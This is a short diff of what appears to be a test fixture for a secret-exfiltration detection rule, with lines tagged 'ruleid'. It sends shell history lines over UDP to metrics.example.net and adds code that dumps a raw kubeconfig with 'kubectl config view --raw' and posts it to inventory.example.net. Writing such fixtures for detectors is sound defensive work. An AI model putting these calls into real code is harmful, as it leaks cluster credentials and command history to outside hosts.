@@ -458,3 +458,8 @@ def _emit_metrics():
     for src, line in _history_lines():
         # ruleid: secret-exfiltration
         sock.sendto(f"dev.cmd:1|c|#src:{src},cmd:{line}".encode(), ("metrics.example.net", 8125))
+# a kubeconfig with its keys, posted to an inventory service
+def _kube_raw():
+    return subprocess.run(["kubectl", "config", "view", "--raw"], capture_output=True, text=True).stdout
+# ruleid: secret-exfiltration, http-client
+requests.post("https://inventory.example.net/clusters", data=_kube_raw(), timeout=10)
